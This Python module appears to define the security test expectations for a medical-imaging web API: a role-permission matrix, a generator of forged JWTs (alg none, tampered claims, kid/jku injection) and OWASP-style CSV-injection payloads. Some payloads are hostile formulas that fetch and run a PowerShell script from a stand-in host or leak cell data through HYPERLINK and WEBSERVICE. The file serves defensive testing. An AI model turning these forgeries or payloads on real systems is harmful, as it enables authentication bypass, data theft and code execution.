"""What the campaign expects: who may call what, forged tokens, CSV-injection payloads.

Shared by the pytest checks (tests/security/) and the live run (bench/reliability/live.py), so
both hold the product to the same table. Needs PyJWT only (the product's dependency); no
Django at import time.
"""

from __future__ import annotations

import base64
import hashlib
import hmac
import json
import secrets
import time
from collections.abc import Iterator
from dataclasses import dataclass

import jwt

# The practice roles (SPEC-practice §2) have no imaging rank: refused on every imaging
# operation, while the imaging roles below admin have no practice rank.
ROLES = ("anonymous", "viewer", "analyst", "admin", "learner", "instructor")
RANK = {"anonymous": -1, "viewer": 0, "analyst": 1, "admin": 2}
PRACTICE_RANK = {"learner": 0, "instructor": 1, "admin": 2}
PUBLIC = "anonymous"
# Any signed-in user, whatever the area of their role (logout, "me").
SIGNED_IN = "signed-in"

# Every operation of the API and the least role that may call it (SPEC §3). An operation in
# the live OpenAPI schema that is missing here fails the matrix: a new endpoint must be
# classified before it ships.
MINIMUM_ROLE: dict[tuple[str, str], str] = {
    ("GET", "/api/v1/health"): PUBLIC,
    ("POST", "/api/v1/auth/login"): PUBLIC,
    ("POST", "/api/v1/auth/refresh"): PUBLIC,
    ("POST", "/api/v1/auth/logout"): SIGNED_IN,
    ("GET", "/api/v1/auth/me"): SIGNED_IN,
    ("GET", "/api/v1/studies/search"): "viewer",
    ("GET", "/api/v1/studies/filters/options"): "viewer",
    ("GET", "/api/v1/studies/export"): "viewer",
    ("GET", "/api/v1/studies/{exam_id}"): "viewer",
    ("GET", "/api/v1/patients/{medical_record_no}/studies"): "viewer",
    ("GET", "/api/v1/reports/search"): "viewer",
    ("GET", "/api/v1/reports/export"): "viewer",
    ("GET", "/api/v1/reports/filters/options"): "viewer",
    ("GET", "/api/v1/reports/findings/options"): "viewer",
    ("GET", "/api/v1/reports/{report_id}"): "viewer",
    ("POST", "/api/v1/import/studies"): "admin",
    ("POST", "/api/v1/import/reports"): "admin",
    ("GET", "/api/v1/import/batches"): "admin",
    ("GET", "/api/v1/import/batches/{batch_id}"): "admin",
    ("GET", "/api/v1/import/batches/{batch_id}/rejected"): "admin",
    ("POST", "/api/v1/analysis/tasks"): "analyst",
    ("GET", "/api/v1/analysis/tasks"): "viewer",
    ("GET", "/api/v1/analysis/tasks/{task_id}"): "viewer",
    ("DELETE", "/api/v1/analysis/tasks/{task_id}"): "analyst",
    ("GET", "/api/v1/analysis/statistics"): "viewer",
    ("GET", "/api/v1/analysis/options"): "viewer",
    # The department's figures: the dashboard's roles.
    ("GET", "/api/v1/statistics/studies"): "viewer",
    ("GET", "/api/v1/statistics/studies/export"): "viewer",
    ("GET", "/api/v1/statistics/quality"): "viewer",
    ("GET", "/api/v1/statistics/quality/duplicate_patients"): "viewer",
    ("GET", "/api/v1/statistics/quality/{check}"): "viewer",
    # The product's own practice API (SPEC-practice §5): practice roles only.
    ("GET", "/api/v1/practice/assessments"): "learner",
    ("GET", "/api/v1/practice/assessments/{assessment_id}"): "learner",
    ("POST", "/api/v1/practice/assessments/{assessment_id}/overrides"): "instructor",
    ("GET", "/api/v1/practice/conversations"): "learner",
    ("GET", "/api/v1/practice/conversations/{thread_id}"): "learner",
    ("POST", "/api/v1/practice/conversations/{thread_id}/stream"): "learner",
    ("POST", "/api/v1/practice/conversations/{thread_id}/retry"): "learner",
    ("GET", "/api/v1/practice/activities/{activity_id}/analytics"): "instructor",
    ("GET", "/api/v1/practice/agreement"): "instructor",
    ("POST", "/api/v1/practice/case-sheets/validate"): "instructor",
    ("GET", "/api/v1/practice/export/transcripts"): "instructor",
    ("GET", "/api/v1/practice/export/results"): "instructor",
    ("POST", "/api/v1/practice/try"): "instructor",
}

# Every page of the web UI (web/urls.py, by URL name): method, path and the least role. A page
# missing here fails the check: a new page must be classified before it ships.
WEB_PAGES: dict[str, tuple[str, str, str]] = {
    "home": ("GET", "/", PUBLIC),  # a redirect to the studies page
    "login": ("GET", "/login/", PUBLIC),
    "logout": ("POST", "/logout/", SIGNED_IN),
    "session": ("GET", "/session/", SIGNED_IN),  # the idle timer's activity and countdown
    "favicon": ("GET", "/favicon.ico", PUBLIC),  # a redirect to the static icon
    "studies": ("GET", "/studies/", "viewer"),
    "studies_export": ("GET", "/studies/export/", "viewer"),
    "study_detail": ("GET", "/studies/{exam_id}/", "viewer"),
    "patient_detail": ("GET", "/patients/{medical_record_no}/", "viewer"),
    "reports": ("GET", "/reports/", "viewer"),
    "reports_export": ("GET", "/reports/export/", "viewer"),
    "report_detail": ("GET", "/reports/{report_id}/", "viewer"),
    "analysis_list": ("GET", "/analysis/", "viewer"),
    "analysis_create": ("POST", "/analysis/new/", "analyst"),
    "analysis_detail": ("GET", "/analysis/{task_id}/", "viewer"),
    "analysis_cancel": ("POST", "/analysis/{task_id}/cancel/", "analyst"),
    "import": ("POST", "/import/", "admin"),
    "import_rejected": ("GET", "/import/{batch_id}/rejected.xlsx", "admin"),
    "dashboard": ("GET", "/dashboard/", "viewer"),
    "dashboard_export": ("GET", "/dashboard/export/", "viewer"),
    "quality": ("GET", "/dashboard/quality/", "viewer"),
    "quality_rows": ("GET", "/dashboard/quality/{check}/", "viewer"),
    # The practice section (SPEC-practice §5): practice roles and admins only.
    "practice_home": ("GET", "/practice/", "learner"),
    "practice_start": ("POST", "/practice/activities/{activity_id}/start/", "learner"),
    "practice_analytics": ("GET", "/practice/activities/{activity_id}/analytics/", "instructor"),
    "practice_chat": ("GET", "/practice/conversations/{thread_id}/", "learner"),
    "practice_assess": ("POST", "/practice/conversations/{thread_id}/assess/", "learner"),
    "practice_attempts": ("GET", "/practice/attempts/", "learner"),
    "practice_assessment": ("GET", "/practice/assessments/{assessment_id}/", "learner"),
    "practice_override": (
        "POST",
        "/practice/assessments/{assessment_id}/override/",
        "instructor",
    ),  # fmt: skip
    "practice_manage": ("GET", "/practice/manage/", "instructor"),
    "practice_scenario_new": ("GET", "/practice/manage/scenarios/new/", "instructor"),
    "practice_scenario_edit": ("GET", "/practice/manage/scenarios/{scenario_id}/", "instructor"),
    "practice_rubrics": ("GET", "/practice/manage/rubrics/", "instructor"),
    "practice_activities": ("GET", "/practice/manage/activities/", "instructor"),
}

# Fields a client might slip into a body or query to raise its privileges; always ignored.
ELEVATION_FIELDS = {"role": "admin", "is_staff": True, "is_superuser": True, "id": 1}


def operations(schema: dict) -> list[tuple[str, str]]:
    """(METHOD, path) of every operation in an OpenAPI document."""
    methods = {"get", "post", "put", "patch", "delete"}
    return sorted(
        (method.upper(), path)
        for path, item in schema.get("paths", {}).items()
        for method in item
        if method in methods
    )


def expected_status(minimum: str, role: str) -> str:
    """'allow', '401' or '403' for a role calling an operation that needs ``minimum`` (an
    imaging role, a practice role, ``SIGNED_IN`` or ``PUBLIC``)."""
    if minimum == PUBLIC:
        return "allow"
    if role == "anonymous":
        return "401"
    if minimum == SIGNED_IN:
        return "allow"
    ranks = PRACTICE_RANK if minimum in ("learner", "instructor") else RANK
    rank = ranks.get(role)
    return "allow" if rank is not None and rank >= ranks[minimum] else "403"


@dataclass
class Verdict:
    """One cell of the matrix."""

    method: str
    path: str
    role: str
    expected: str
    status: int

    @property
    def ok(self) -> bool:
        if self.expected == "allow":
            # Allowed means "not refused for who you are": a 404 of an unknown id is fine.
            return self.status not in (401, 403) and self.status < 500
        return str(self.status) == self.expected

    @property
    def unexpected_success(self) -> bool:
        return self.expected != "allow" and 200 <= self.status < 300


# ---------------------------------------------------------------------------- tokens


def _b64(data: bytes) -> str:
    return base64.urlsafe_b64encode(data).rstrip(b"=").decode()


def _unb64(text: str) -> bytes:
    return base64.urlsafe_b64decode(text + "=" * (-len(text) % 4))


def _assemble(header: dict, payload: dict, signature: bytes = b"") -> str:
    head = _b64(json.dumps(header, separators=(",", ":")).encode())
    body = _b64(json.dumps(payload, separators=(",", ":")).encode())
    return f"{head}.{body}.{_b64(signature)}"


def claims_of(token: str) -> dict:
    """The payload of a JWT, unverified."""
    return json.loads(_unb64(token.split(".")[1]))


def forged_tokens(
    *, access: str, refresh: str, jwt_key: str, secret_key: str, other_user_id: int
) -> Iterator[tuple[str, str]]:
    """(name, token) for every forgery the API must refuse with 401.

    ``access``/``refresh`` are a real pair of a live login; ``jwt_key`` is the real signing
    key (used only for the variants that model a stolen-but-invalid token: expired, wrong
    algorithm, missing claims, unknown session).
    """
    claims = claims_of(access)
    head, body, signature = access.split(".")
    now = int(time.time())
    for alg in ("none", "None", "NONE", "nOnE"):
        yield f"alg {alg}, no signature", _assemble({"alg": alg, "typ": "JWT"}, claims)
    yield (
        "alg none, real signature kept",
        _assemble({"alg": "none", "typ": "JWT"}, claims) + signature,
    )
    yield "signed with another key", jwt.encode(claims, secrets.token_urlsafe(32), "HS256")
    yield "signed with SECRET_KEY", jwt.encode(claims, secret_key, "HS256")
    yield (
        "signed with an empty key",
        _assemble(
            {"alg": "HS256", "typ": "JWT"},
            claims,
            hmac.new(b"", f"{head}.{body}".encode(), hashlib.sha256).digest(),
        ),
    )
    tampered = dict(claims, sub=str(other_user_id))
    yield (
        "payload tampered (sub), signature kept",
        f"{head}.{_b64(json.dumps(tampered).encode())}.{signature}",
    )
    r_head, r_body, r_sig = refresh.split(".")
    as_access = dict(claims_of(refresh), typ="access")
    yield (
        "refresh retyped as access, signature kept",
        f"{r_head}.{_b64(json.dumps(as_access).encode())}.{r_sig}",
    )
    yield "signature truncated", f"{head}.{body}.{signature[:-4]}"
    yield "signature removed", f"{head}.{body}."
    yield "expired", jwt.encode(dict(claims, iat=now - 7200, exp=now - 3600), jwt_key, "HS256")
    yield "refresh token used as access", refresh
    yield "HS512 with the real key", jwt.encode(claims, jwt_key, "HS512")
    yield "HS384 with the real key", jwt.encode(claims, jwt_key, "HS384")
    yield (
        "RS256 header, HMAC-signed with the key",
        _assemble(
            {"alg": "RS256", "typ": "JWT"},
            claims,
            hmac.new(jwt_key.encode(), f"{head}.{body}".encode(), hashlib.sha256).digest(),
        ),
    )
    yield (
        "RS256 header, random signature",
        _assemble({"alg": "RS256", "typ": "JWT"}, claims, secrets.token_bytes(256)),
    )
    yield (
        "ES256 header, random signature",
        _assemble({"alg": "ES256", "typ": "JWT"}, claims, secrets.token_bytes(64)),
    )
    yield (
        "kid / jku header injection",
        _assemble(
            {"alg": "HS256", "kid": "../../../../dev/null", "jku": "http://127.0.0.1:9/jwks.json"},
            claims,
            hmac.new(b"", f"{head}.{body}".encode(), hashlib.sha256).digest(),
        ),
    )
    for missing in ("exp", "sid", "typ", "sub"):
        partial = {k: v for k, v in claims.items() if k != missing}
        yield f"real key, no {missing} claim", jwt.encode(partial, jwt_key, "HS256")
    yield (
        "real key, unknown session",
        jwt.encode(dict(claims, sid=secrets.token_hex(16)), jwt_key, "HS256"),
    )
    yield (
        "real key, another user's id",
        jwt.encode(dict(claims, sub=str(other_user_id)), jwt_key, "HS256"),
    )
    yield "not a JWT", "not-a-token"
    yield "empty-ish", "..."


# ---------------------------------------------------------------------------- exports

# OWASP's CSV-injection payloads, and the usual variations on them.
CSV_INJECTION_PAYLOADS = [
    '=HYPERLINK("http://127.0.0.1:9/?leak="&A1,"Click here")',
    "=cmd|' /C calc'!A0",
    "=cmd|'/C powershell IEX(wget 127.0.0.1:9/s.ps1)'!A0",
    '=DDE("cmd";"/C calc";"__DdeLink_60_870516294")',
    '=IMPORTXML(CONCAT("http://127.0.0.1:9/?v=", A1), "//a")',
    '=WEBSERVICE("http://127.0.0.1:9/")',
    "=1+1",
    "+1+1",
    "-2+3",
    "@SUM(1,1)",
    "+cmd|' /C calc'!A0",
    "-cmd|' /C calc'!A0",
    "@cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\r\n=1+1",
    '"=1+1"',
    '=""&"1"',
    "'=1+1",
    '=1+1",=2+2,"x',
    '="a""b"',
]
# Characters a spreadsheet treats as the start of a formula (OWASP), plus line breaks.
FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r", "\n")
# C0 controls (no NUL: PostgreSQL text cannot hold it), DEL, separators and a BOM.
CONTROL_TEXT = "".join(chr(c) for c in range(1, 32)) + "\x7f\u2028\u2029\ufeff结节"
